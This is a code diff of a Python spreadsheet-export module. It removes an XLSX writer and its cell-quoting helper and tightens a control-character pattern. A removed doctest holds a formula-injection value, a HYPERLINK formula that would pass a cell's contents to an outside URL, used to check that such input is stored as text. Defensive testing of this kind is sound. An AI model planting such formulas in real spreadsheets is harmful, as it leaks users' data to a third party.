@@ -38,7 +38,6 @@ import io
 import json
 import re
 from collections.abc import Iterable, Iterator, Sequence
-from copy import copy
 from datetime import date, datetime
 from pathlib import Path
 from typing import IO, Any
@@ -50,7 +49,6 @@ __all__ = [
     "from_csv_text",
     "write_csv",
     "read_csv",
-    "write_xlsx",
     "long_cells",
     "xml_safe",
     "has_control",
@@ -59,7 +57,7 @@ __all__ = [
 ]
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # not XML characters
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")  # not XML characters
 _NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")
 
 
@@ -134,88 +132,6 @@ def has_control(value: str) -> bool:
     return _CONTROL.search(value) is not None
 
 
-def write_xlsx(
-    path: Path,
-    sheets: dict[str, list[list[Any]]],
-    *,
-    properties: dict[str, str] | None = None,
-    dates: dict[str, set[str]] | None = None,
-    choices: dict[str, dict[str, Sequence[str]]] | None = None,
-    wrap: dict[str, set[str]] | None = None,
-) -> None:
-    """Write sheets of rows (header first, in bold, frozen, with filter buttons and widths) to
-    ``path``; text stays text. ``properties`` become custom document properties (Excel keeps
-    them when it saves). Per sheet, by header: ``dates`` columns hold ISO dates written as real
-    dates (Excel sorts and filters them as dates; a cell that is not a date stays text),
-    ``choices`` columns get a dropdown of their values (blank allowed), ``wrap`` columns wrap
-    their text.
-
-    >>> import tempfile, pathlib
-    >>> from openpyxl import load_workbook
-    >>> path = pathlib.Path(tempfile.mkdtemp()) / "t.xlsx"
-    >>> write_xlsx(path, {"actions": [["ref", "text"], ["A1", '=0+HYPERLINK("http://x?"&B2)'], ["n", 3]]})
-    >>> ws = load_workbook(path)["actions"]
-    >>> [(c.value, c.data_type) for c in ws[2]]
-    [('A1', 's'), ('=0+HYPERLINK("http://x?"&B2)', 's')]
-    >>> ws["B2"].quotePrefix, ws["B3"].value
-    (True, 3)
-    >>> write_xlsx(path, {"a": [["due", "status"], ["2019-03-31", "on-track"]]}, dates={"a": {"due"}},
-    ...            choices={"a": {"status": ["on-track", "complete"]}})
-    >>> ws = load_workbook(path)["a"]
-    >>> ws["A2"].value.date(), ws.data_validations.dataValidation[0].formula1
-    (datetime.date(2019, 3, 31), '"on-track,complete"')
-    """
-    from openpyxl import Workbook
-    from openpyxl.styles import Alignment, Font
-    from openpyxl.worksheet.datavalidation import DataValidation
-
-    wb = Workbook(write_only=True)
-    if properties:
-        from openpyxl.packaging.custom import StringProperty
-
-        for name, value in properties.items():
-            wb.custom_doc_props.append(StringProperty(name=name, value=value))
-    bold = Font(bold=True)
-    wrapped = Alignment(wrap_text=True, vertical="top")
-    looks: dict[Any, Any] = {}
-    for name, rows in sheets.items():
-        ws = wb.create_sheet(name[:31])
-        head = [str(h) for h in rows[0]] if rows else []
-        date_cols = {i for i, h in enumerate(head) if h in (dates or {}).get(name, set())}
-        wrap_cols = {i for i, h in enumerate(head) if h in (wrap or {}).get(name, set())}
-        if rows:
-            ws.freeze_panes = "A2"
-            # filter buttons on the header row: a planner finds rows to check with one filter
-            ws.auto_filter.ref = f"A1:{_column_letter(max(len(rows[0]), 1) - 1)}{len(rows)}"
-            for i, title in enumerate(head):
-                width = max((len(str(r[i])) for r in rows if i < len(r) and r[i] is not None), default=10)
-                ws.column_dimensions[_column_letter(i)].width = min(
-                    max(width, len(title)) + 2, 60 if i in wrap_cols else 80
-                )
-            for column, options in (choices or {}).get(name, {}).items():
-                listed = ",".join(options)
-                if column in head and len(listed) <= 250 and "," not in "".join(options) and '"' not in listed:
-                    dv = DataValidation(type="list", formula1=f'"{listed}"', allow_blank=True)
-                    letter = _column_letter(head.index(column))
-                    dv.add(f"{letter}2:{letter}{max(len(rows), 1) + 500}")  # room for rows a planner adds
-                    ws.data_validations.append(dv)
-        for n, row in enumerate(rows):
-            cells = []
-            for i, v in enumerate(row):
-                if n and i in date_cols and isinstance(v, str) and _ISO_DATE.fullmatch(v):
-                    v = date.fromisoformat(v)
-                if n and i in wrap_cols and isinstance(v, str) and v:
-                    cell = _xlsx_cell(ws, v, None, alignment=wrapped, styles=looks)
-                else:
-                    cell = _xlsx_cell(ws, v, bold if n == 0 else None, styles=looks)
-                cells.append(cell)
-            ws.append(cells)
-    wb.save(path)
-
-
-_ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
-
-
 def content_sha256(sheets: dict[str, list[list[Any]]]) -> str:
     """A digest of what the sheets say (not of the file's bytes: Excel saving an unchanged
     workbook again keeps it); see :func:`xlsx_content`.
@@ -271,40 +187,3 @@ def existing_rows(ws: Any) -> Iterator[tuple[Any, ...]]:
     for row in ws.iter_rows(values_only=True):
         if row:
             yield row
-
-
-def _xlsx_cell(ws: Any, value: Any, font: Any, *, alignment: Any = None, styles: dict[Any, Any] | None = None) -> Any:
-    """A value for a write-only sheet: plain where openpyxl keeps it as it is, else a cell. A
-    cell's style is made once per look and copied to the next cells of that look (``styles``):
-    openpyxl looks each style up in its tables again otherwise, a third of a large sheet's time."""
-    if isinstance(value, str):
-        if has_control(value):
-            value = xml_safe(value)
-        if value[:1] not in FORMULA_START and font is None and alignment is None:
-            return value or None  # openpyxl stores it as text
-    elif font is None and alignment is None:
-        return value
-    from openpyxl.cell import WriteOnlyCell
-
-    c = WriteOnlyCell(ws, value=value)
-    quoted = isinstance(value, str) and value[:1] in FORMULA_START
-    if isinstance(value, str):
-        c.data_type = "s"  # stored as text, never a formula
-    look = (quoted, id(font), id(alignment))
-    if styles is not None and look in styles:
-        c._style = copy(styles[look])
-        return c
-    c.quotePrefix = quoted
-    if font is not None:
-        c.font = font
-    if alignment is not None:
-        c.alignment = alignment
-    if styles is not None:
-        styles[look] = copy(c._style)
-    return c
-
-
-def _column_letter(i: int) -> str:
-    from openpyxl.utils import get_column_letter
-
-    return str(get_column_letter(i + 1))
